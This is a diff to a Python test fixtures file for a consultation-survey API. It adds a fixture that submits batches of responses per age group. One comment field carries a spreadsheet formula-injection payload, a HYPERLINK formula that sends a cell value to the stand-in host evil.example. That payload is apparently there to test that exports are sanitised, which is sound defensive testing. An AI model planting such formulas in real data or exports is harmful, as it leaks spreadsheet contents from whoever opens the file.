@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 from collections.abc import AsyncIterator, Awaitable, Callable
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -192,3 +193,35 @@ def new_body() -> Callable[..., dict[str, Any]]:
 def answers() -> Callable[..., dict[str, Any]]:
     """``answers(**overrides)``: valid answers to every question (None drops one)."""
     return good_answers
+
+
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def answer_groups(
+    client: httpx.AsyncClient, resident: Callable[..., dict[str, str]]
+) -> Callable[[str, dict[str, int]], Awaitable[None]]:
+    """``await answer_groups(consultation_id, {"youth": 12, ...})``: that many responses per age
+    group, each from its own device; the first senior's comment is a spreadsheet formula."""
+
+    async def answer(consultation_id: str, groups: dict[str, int]) -> None:
+        jobs = []
+        for group, size in groups.items():
+            for n in range(size):
+                extra = {"comment": INJECTION} if group == "senior" and n == 0 else {}
+                body = {"answers": good_answers(age=group, safety=1 + n % 5, **extra)}
+                jobs.append(
+                    client.post(
+                        f"/api/v1/consultations/{consultation_id}/responses",
+                        json=body,
+                        headers=resident(f"{group}-{n}"),
+                    )
+                )
+        for chunk in range(0, len(jobs), 16):
+            sent = await asyncio.gather(*jobs[chunk : chunk + 16])
+            assert {r.status_code for r in sent} == {201}, [
+                r.text for r in sent if r.status_code != 201
+            ]
+
+    return answer
